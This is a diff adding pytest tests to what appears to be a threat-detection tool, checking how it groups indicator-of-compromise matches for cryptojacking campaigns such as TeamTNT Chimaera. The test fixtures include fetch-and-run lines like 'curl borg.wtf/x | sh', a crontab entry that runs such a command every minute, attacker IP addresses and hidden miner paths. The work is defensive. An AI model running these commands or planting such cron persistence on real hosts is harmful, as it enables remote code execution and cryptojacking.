@@ -8,6 +8,7 @@ import pytest
 
 from kubewitness.detect.host.finding import HostFinding
 from kubewitness.detect.indicators.index import Index
+from kubewitness.detect.indicators.indicator import Indicator
 from kubewitness.detect.indicators.on_hosts import findings
 from kubewitness.detect.indicators.pack import shipped
 from kubewitness.model.evidence import Place
@@ -114,3 +115,77 @@ def test_hostile_traces_are_bounded() -> None:
     (one,) = found(processes=processes, files=files)
     assert one.count == 50
     assert len(one.places) <= 8
+
+
+CHIMAERA, WATCHDOG, GANG = "45.9.148.35", "146.71.79.230", "/tmp/.x2mr"
+
+
+def every_value(campaigns: int) -> str:
+    names = sorted({one.campaign for one in shipped().indicators})[:campaigns]
+    return "\n".join(one.value.rstrip("*") for one in shipped().indicators if one.campaign in names)
+
+
+def test_a_file_that_lists_what_is_known_is_one_informational_finding_that_says_so() -> None:
+    (one,) = found(files=[HostFile("/tmp/iocs.txt", every_value(20), HERE)])
+    assert (one.rule, one.severity, one.confidence, one.subject) == (
+        "indicators/list", "informational", "low", "/tmp/iocs.txt",
+    )  # fmt: skip
+    assert "a list" in one.title.en
+    assert "清单" in one.title.zh
+    assert one.count > 100
+    assert len(one.places) <= 8
+    assert len(one.reasons) == 9
+    assert "(+3)" in dict(one.matched)["campaigns"]
+
+
+def test_all_of_one_campaign_in_one_file_is_one_finding() -> None:
+    names = sorted({one.campaign for one in shipped().indicators})[:2]
+    some = found(files=[HostFile("/root/setup.sh", every_value(2), HERE), HostFile("/root/b.sh", every_value(1), HERE)])
+    assert [one.rule for one in some] == [f"indicators/{name}" for name in (*names, names[0])]
+    assert all(one.count > 3 and one.reasons for one in some)
+    assert " values in a file" in some[0].title.en
+    assert len(dict(some[0].matched)["types"].split(", ")) > 1
+    assert dict(some[0].matched)["indicator"] not in dict(some[0].matched)["also"].split(", ")
+
+
+def test_one_value_in_a_file_is_told_as_before() -> None:
+    (one,) = found(files=[HostFile("/root/setup.sh", "curl borg.wtf/x | sh\n", HERE)])
+    assert (dict(one.matched)["indicator"], one.reasons) == ("borg.wtf", ())
+    assert "also" not in dict(one.matched)
+
+
+def test_values_of_one_campaign_in_different_things_stay_apart_and_like_ones_are_counted() -> None:
+    command = "curl borg.wtf/a"
+    some = found(
+        processes=[Process(number, command, Place("ps", number, 0)) for number in range(1, 6)],
+        schedules=[CronEntry("/etc/crontab", "* * * * *", command, HERE)],
+        sockets=[Socket("tcp", "ESTAB", "10.0.0.1", 9, CHIMAERA, 443, HERE)],
+        listing=[FileEntry("/tmp/.x1mr", HERE)],
+    )
+    assert [one.count for one in some] == [5, 1, 1, 1]
+    assert {one.rule for one in some} == {"indicators/teamtnt-chimaera-kube"}
+
+
+def test_a_line_of_a_crontab_or_history_is_not_told_a_second_time_as_a_line_of_a_file() -> None:
+    line = Place("etc/crontab", 1, 0, 40)
+    schedules = [CronEntry("/etc/crontab", "* * * * *", "curl -s borg.wtf/x | sh", line)]
+    file = HostFile("/etc/crontab", "* * * * * root curl -s borg.wtf/x | sh\n", Place("etc/crontab", 1, 0))
+    (one,) = found(schedules=schedules, files=[file])
+    assert one.subject.startswith("* * * * *")
+
+
+@pytest.mark.parametrize("campaigns", [2, 3])
+def test_a_command_that_names_three_campaigns_is_a_list_and_hides_nothing_of_its_process(campaigns: int) -> None:
+    values = (CHIMAERA, WATCHDOG, "kiss.a-dog.top")[:campaigns]
+    process = Process(7, f"python3 check.py {' '.join(values)}", HERE, executable="/var/tmp/.system", sha256=DIGEST)
+    some = found(processes=[process])
+    assert [one.rule for one in some if one.severity == "informational"] == ["indicators/list"] * (campaigns == 3)
+    assert [one.severity for one in some].count("high") == 1  # the hash of a known miner
+    assert any(dict(one.matched).get("indicator") == "/var/tmp/.system" for one in some)
+    assert any(dict(one.matched).get("indicator") == CHIMAERA for one in some) is (campaigns == 2)
+
+
+def test_a_value_that_three_lists_know_makes_no_list() -> None:
+    index = Index([Indicator("address", CHIMAERA, name, "high") for name in ("a", "b", "c")])
+    some = findings(Host("n", processes=[Process(7, f"curl {CHIMAERA} | sh", HERE)]), index)
+    assert {one.rule for one in some} == {f"indicators/{name}" for name in "abc"}
